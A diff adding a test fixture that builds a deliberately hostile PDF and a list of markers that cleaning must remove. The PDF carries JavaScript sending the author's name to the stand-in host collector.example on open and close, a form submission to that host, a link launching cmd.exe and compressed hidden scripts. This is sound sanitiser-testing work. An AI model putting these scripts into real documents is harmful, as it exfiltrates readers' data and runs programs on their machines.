@@ -1,6 +1,7 @@
 """Small real files for tests: each is what its type says, built byte by byte."""
 
 import io
+import zlib
 
 from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
@@ -208,6 +209,86 @@ def pdf_with_metadata() -> bytes:
         % (len(objects) + 1, xref)
     )
     return out.getvalue()
+
+
+COLLECTOR = b"collector.example"  # where the hostile PDF's scripts would send what they read
+# Left in no copy of pdf_with_active_content (searched with every stream decompressed).
+ACTIVE_PDF_MARKERS = (
+    b"/JavaScript",
+    b"JavaScript:",
+    b"/JS",
+    b"/OpenAction",
+    b"/AA",
+    b"/Launch",
+    b"/SubmitForm",
+    b"/EmbeddedFile",
+    b"/XFA",
+    b"/Author",
+    COLLECTOR,
+    b"x:xmpmeta",
+    PERSON.encode(),
+    SERIAL.encode(),
+)
+
+
+def _stream(data: bytes, extra: bytes = b"", *, deflate: bool = False) -> bytes:
+    if deflate:  # as real documents (and hostile ones) keep their scripts: out of plain sight
+        data, extra = zlib.compress(data), extra + b"/Filter /FlateDecode "
+    return b"<< %s/Length %d >>\nstream\n" % (extra, len(data)) + data + b"\nendstream"
+
+
+def _pdf_file(objects: list[bytes], trailer: bytes) -> bytes:
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
+    for offset in offsets:
+        out.write(b"%010d 00000 n \n" % offset)
+    out.write(
+        b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
+    )
+    return out.getvalue()
+
+
+def pdf_with_active_content() -> bytes:
+    """A resident's "statement" as a hostile sender would make it: scripts run on opening, on
+    closing and on showing the page (sending what they can read to COLLECTOR), a link that
+    launches a program, an embedded file, an XFA form, the author in the document information
+    and in XMP. One harmless web link and the page's own drawing must survive cleaning."""
+    script = b"app.launchURL('https://" + COLLECTOR + b"/?' + this.info.Author)"
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R /OpenAction 6 0 R"
+        b" /AA << /WC << /S /JavaScript /JS (app.alert\\('bye'\\)) >> >>"
+        b" /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >>"
+        b" /AcroForm << /Fields [] /XFA 12 0 R >> >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> /Contents 13 0 R"
+        b" /Annots [10 0 R 11 0 R 17 0 R]"
+        b" /AA << /O << /S /SubmitForm /F << /FS /URL /F (https://"
+        + COLLECTOR
+        + b"/form) >> >> >> >>",
+        _stream(XMP, b"/Type /Metadata /Subtype /XML "),
+        b"<< /Author (" + PERSON.encode() + b") /Creator (Scanner " + SERIAL.encode() + b") >>",
+        b"<< /S /JavaScript /JS 14 0 R >>",
+        b"<< /Names [(init) 8 0 R] >>",
+        b"<< /S /JavaScript /JS 14 0 R >>",
+        b"<< /Names [(notes.txt) 15 0 R] >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Launch /F (cmd.exe) >> >>",
+        b"<< /Type /Annot /Subtype /Link /Rect [10 10 90 20]"
+        b" /A << /S /URI /URI (https://agency.example/policy) >> >>",
+        _stream(b"<xdp:xdp><script>" + script + b"</script></xdp:xdp>", deflate=True),
+        _stream(b"0 0 m 100 100 l S"),
+        _stream(script, deflate=True),
+        b"<< /Type /Filespec /F (notes.txt) /EF << /F 16 0 R >> >>",
+        _stream(b"Notes by " + PERSON.encode(), b"/Type /EmbeddedFile "),
+        b"<< /Type /Annot /Subtype /Link /Rect [10 30 90 40]"
+        b" /A << /S /URI /URI (JavaScript:app.launchURL\\('https://" + COLLECTOR + b"'\\)) >> >>",
+    ]
+    return _pdf_file(objects, b"/Root 1 0 R /Info 5 0 R")
 
 
 def mp3_with_metadata() -> bytes:
